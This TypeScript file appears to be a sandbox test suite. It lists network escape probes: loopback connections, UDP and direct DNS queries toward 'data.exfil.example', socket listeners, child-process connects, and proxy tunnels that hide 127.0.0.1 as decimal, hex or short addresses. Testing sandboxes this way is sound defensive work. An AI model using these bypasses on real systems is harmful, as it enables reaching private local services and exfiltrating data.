import { attack, type Attack } from './attack.ts'

const net = attack('network')

const connect = (host: string, port = 'facts.port'): string => `escaped(await talk({ host: '${host}', port: ${port} }))`
const proxy = (request: string): string => `
    const answer = await talk({ host: '127.0.0.1', port: facts.proxy }, ${request})
    if (!answer.includes('canary')) throw refusal(answer.split(' ').slice(0, 2).join(' ').split('\\r')[0])
    escaped(answer)`
const refusedByProxy = ['HTTP/1.1 403', 'HTTP/1.1 407', 'HTTP/1.1 400', 'ECONNRESET', ' ', '']
const tunnel = (target: string): string =>
  `'CONNECT ${target} HTTP/1.1\\r\\nHost: x\\r\\n' + facts.credentials + '\\r\\n', 'GET / HTTP/1.0\\r\\n\\r\\n'`

export const networkAttacks: readonly Attack[] = [
  net('loopback', 'connect to a service of the user’s on loopback', connect('127.0.0.1')),
  net('loopback-6', 'the same by IPv6', connect('::1', 'facts.port6')),
  net('loopback-mapped', 'the same by an IPv4-mapped address', connect('::ffff:127.0.0.1')),
  net('loopback-other', 'the same by another loopback address', connect('127.0.0.2')),
  net('loopback-name', 'the same by name', connect('localhost')),
  net('blocking-connect', 'connect without Node', `escaped(winsockConnect('127.0.0.1', facts.port))`),
  net('udp', 'send a datagram to a service on loopback', `escaped(await datagram('127.0.0.1', facts.udpPort))`),
  net('udp-connected', 'send on a connected datagram socket', `escaped(await datagram('127.0.0.1', facts.udpPort, true))`),
  net(
    'dns',
    'ask a name server directly',
    `
    const resolver = new dns.promises.Resolver({ timeout: 1500, tries: 1 }); resolver.setServers(['127.0.0.1:' + facts.dnsPort])
    escaped(await resolver.resolve4('data.exfil.example'))`,
    ['EPERM', 'EACCES', 'ECONNREFUSED', 'ETIMEOUT'],
  ),
  net(
    'listen',
    'listen for others',
    `
    const server = net.createServer(); await new Promise((resolve, reject) => { server.once('error', reject); server.listen(0, '0.0.0.0', resolve) })
    server.close(); escaped()`,
  ),
  net(
    'listen-loopback',
    'listen on loopback',
    `
    const server = net.createServer(); await new Promise((resolve, reject) => { server.once('error', reject); server.listen(0, '127.0.0.1', resolve) })
    server.close(); escaped()`,
  ),
  net(
    'by-child',
    'let a child connect',
    `
    const script = 'const s = require("net").connect(+process.argv[1], "127.0.0.1"); s.on("error", (e) => process.exit(e.code === "EACCES" || e.code === "EPERM" ? 13 : 14)); s.on("connect", () => process.exit(0))'
    cp.execFileSync(process.execPath, ['-e', script, String(facts.port)], { stdio: 'ignore' }); escaped()`,
    ['exit 13'],
  ),
  net('proxy-loopback', 'reach loopback through the gateway', proxy(tunnel("127.0.0.1:' + facts.port + '")), refusedByProxy),
  net('proxy-name', 'the same by name', proxy(tunnel("localhost:' + facts.port + '")), refusedByProxy),
  net('proxy-decimal', 'the same by a decimal address', proxy(tunnel("2130706433:' + facts.port + '")), refusedByProxy),
  net('proxy-short', 'the same by a short address', proxy(tunnel("127.1:' + facts.port + '")), refusedByProxy),
  net('proxy-hex', 'the same by a hexadecimal address', proxy(tunnel("0x7f000001:' + facts.port + '")), refusedByProxy),
  net('proxy-mapped', 'the same by a mapped address', proxy(tunnel("[::ffff:127.0.0.1]:' + facts.port + '")), refusedByProxy),
  net(
    'proxy-absolute',
    'the same by an absolute request',
    proxy(`'GET http://127.0.0.1:' + facts.port + '/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n' + facts.credentials + '\\r\\n'`),
    refusedByProxy,
  ),
  net(
    'proxy-stranger',
    'use the gateway without its password',
    proxy(`'GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n'`),
    ['HTTP/1.1 407'],
  ),
]
